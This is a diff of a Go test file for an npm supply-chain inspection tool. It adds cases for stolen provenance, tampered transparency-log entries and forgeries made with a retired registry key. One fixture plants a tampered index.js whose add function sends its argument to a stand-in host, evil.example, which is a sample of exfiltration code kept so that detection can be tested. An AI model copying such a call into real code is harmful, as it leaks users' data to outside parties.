@@ -61,6 +61,11 @@ func fixtures(t *testing.T, reg *npmregistrytest.Registry) map[string]inspect.Pa
 	})}, "")
 	add(npmregistrytest.Package{Name: "forged-sig", Version: "3.0.0", BadSignature: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
 	add(npmregistrytest.Package{Name: "bad-provenance", Version: "1.0.0", Provenance: true, BadProvenance: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
+	// Provenance from another repository than the package declares, and
+	// one whose log entry records another signature.
+	add(npmregistrytest.Package{Name: "stolen-provenance", Version: "1.0.0", Provenance: true, ProvenanceRepository: "https://github.com/mallory/stolen-provenance",
+		Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
+	add(npmregistrytest.Package{Name: "relogged", Version: "1.0.0", Provenance: true, TamperedLog: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
 	add(npmregistrytest.Package{Name: "swapped-archive", Version: "1.0.0", Files: map[string]string{"index.js": "module.exports = 3\n"}},
 		npmregistrytest.Integrity([]byte("what the lockfile pinned")))
 	// An older version by another maintainer, then a fresh one by a stranger.
@@ -71,8 +76,12 @@ func fixtures(t *testing.T, reg *npmregistrytest.Registry) map[string]inspect.Pa
 }
 
 func config(reg *npmregistrytest.Registry, cache string) inspect.Config {
+	root, err := registry.ParseTrustedRoot(reg.TrustedRootJSON())
+	if err != nil {
+		panic(err)
+	}
 	return inspect.Config{Registry: &registry.Client{BaseURL: reg.URL(), Timeout: 10 * time.Second}, Cache: &registry.Cache{Dir: cache},
-		ProvenanceRoots: reg.Roots(), Now: func() time.Time { return now }}
+		TrustedRoot: root, Now: func() time.Time { return now }}
 }
 
 func bySignal(signals []deps.Signal, pkg string) []deps.Signal {
@@ -134,6 +143,8 @@ func TestRun(t *testing.T) {
 		{"traversal", deps.SignalHostileArchive, osv.SeverityCritical, "package/link", 0, "link"},
 		{"forged-sig", deps.SignalBadSignature, osv.SeverityCritical, "", 0, "signature does not verify"},
 		{"bad-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "provenance attestation"},
+		{"stolen-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "built from https://github.com/mallory/stolen-provenance"},
+		{"relogged", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "the entry records another signature or signer"},
 		{"swapped-archive", deps.SignalIntegrityMismatch, osv.SeverityCritical, "", 0, "does not match the lockfile's sha512 hash"},
 		{"hijacked", deps.SignalNewVersion, osv.SeverityLow, "", 0, "published 2026-11-30"},
 		{"hijacked", deps.SignalMaintainerChange, osv.SeverityHigh, "", 0, "maintainers added: mallory"},
@@ -142,6 +153,17 @@ func TestRun(t *testing.T) {
 		if !has(bySignal(res.Signals, tc.pkg), tc.kind, tc.sev, tc.file, tc.line, tc.detail) {
 			t.Errorf("%s: want %s (%s+) at %s:%d with %q; got:%s", tc.pkg, tc.kind, tc.sev, tc.file, tc.line, tc.detail, dump(tc.pkg))
 		}
+	}
+	// Every version's registry signature verifies but forged-sig's (the
+	// swapped archive's too: the registry signed what it serves, the
+	// lockfile pins something else); clean-utils' provenance is the one
+	// that verifies.
+	if res.Verified.Signatures != len(pkgs)-1 || res.Verified.Provenance != 1 {
+		t.Errorf("got %+v verified, want %d signatures and 1 provenance", res.Verified, len(pkgs)-1)
+	}
+	if len(res.Provenance) != 1 || res.Provenance[0].Package != "clean-utils" || res.Provenance[0].Repository != "https://github.com/acme/clean-utils" ||
+		res.Provenance[0].Workflow != "https://github.com/acme/clean-utils/.github/workflows/release.yml@refs/heads/main" || res.Provenance[0].Logged != "2025-01-01T00:00:00Z" {
+		t.Errorf("got provenance %+v, want clean-utils built by its release workflow", res.Provenance)
 	}
 	if got := bySignal(res.Signals, "clean-utils"); len(got) != 0 {
 		t.Errorf("clean-utils: got%s, want no signal", dump("clean-utils"))
@@ -198,7 +220,7 @@ func TestInstalledTampered(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	write("package.json", `{"_resolved":"added by an old npm","name":"clean-utils","scripts":null,"version":"1.2.3"}`)
+	write("package.json", `{"_resolved":"added by an old npm","name":"clean-utils","repository":{"type":"git","url":"git+https://github.com/acme/clean-utils.git"},"scripts":null,"version":"1.2.3"}`)
 	write("index.js", "'use strict'\nmodule.exports = function add (a, b) {\n  require('https').get('https://evil.example/?' + a)\n  return a + b\n}\n")
 	cfg := config(reg, t.TempDir())
 	cfg.Installed = project
@@ -405,5 +427,41 @@ func TestRegistryWithoutKeys(t *testing.T) {
 	}
 	if len(res.Gaps) != 0 || len(res.Signals) != 0 || len(res.Notes) != 2 || !strings.Contains(res.Notes[0], "no signing keys") {
 		t.Fatalf("got gaps %v signals %v notes %v, want two notes, no gap and no signal", res.Gaps, res.Signals, res.Notes)
+	}
+}
+
+// TestRotatedRegistryKey: the keys endpoint says the key expired; versions
+// signed before verify, one published after is a forgery made with a
+// retired (perhaps leaked) key: its signature and its publish attestation.
+func TestRotatedRegistryKey(t *testing.T) {
+	t.Parallel()
+	reg := npmregistrytest.New(t)
+	lib := map[string]string{"index.js": "module.exports = 1\n"}
+	before := reg.Publish(npmregistrytest.Package{Name: "rotated", Version: "1.0.0", Files: lib, Published: time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)})
+	after := reg.Publish(npmregistrytest.Package{Name: "rotated", Version: "1.1.0", Files: lib, Published: time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)})
+	reg.ExpireKey(time.Date(2025, 1, 29, 0, 0, 0, 0, time.UTC))
+	pkg := func(v, integ string) inspect.Package {
+		return inspect.Package{Source: "package-lock.json", Package: lockfile.Package{Name: "rotated", Version: v, Ecosystem: lockfile.EcosystemNPM,
+			Resolved: reg.TarballURL("rotated", v), Integrity: integ}}
+	}
+	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{pkg("1.0.0", before), pkg("1.1.0", after)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var bad []deps.Signal
+	for _, s := range res.Signals {
+		if s.Kind == deps.SignalBadSignature || s.Kind == deps.SignalBadAttestation {
+			bad = append(bad, s)
+		}
+	}
+	// The signature and the publish attestation of 1.1.0 were both made
+	// with the retired key.
+	if len(bad) != 2 {
+		t.Fatalf("got %+v, want a bad-signature and a bad-attestation for 1.1.0", bad)
+	}
+	for _, s := range bad {
+		if s.Version != "1.1.0" || s.Severity != osv.SeverityCritical || !strings.Contains(s.Detail, "expired 2025-01-29") {
+			t.Errorf("got %+v, want critical, for 1.1.0, naming the expiry", s)
+		}
 	}
 }
